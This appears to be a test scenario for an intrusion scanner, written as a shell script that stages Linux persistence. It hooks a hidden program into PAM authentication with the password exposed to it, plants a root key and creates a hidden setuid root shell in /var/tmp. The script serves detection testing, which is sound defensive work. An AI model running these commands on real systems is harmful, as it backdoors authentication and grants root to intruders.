# id: C06
# mode: scan
# level: suspicious
# due: now
# title: a program at every authentication, the file it fills and a key of root
. "$here/intruder.sh"
word name
pick place /usr/local/lib /var/lib /usr/lib/security
mkdir -p "$place"
printf '#!/bin/sh\nread -r secret\necho "$PAM_USER" >>/var/tmp/.%s\n' "$name" >"$place/$name"
chmod 755 "$place/$name"
pick service common-auth sshd
echo "auth optional pam_exec.so quiet expose_authtok $place/$name" >>"/etc/pam.d/$service"
said path "/etc/pam.d/$service"
new_key /root
cp /bin/sh "/var/tmp/.$name-sh"
chmod 4755 "/var/tmp/.$name-sh"
said path "/var/tmp/.$name-sh"
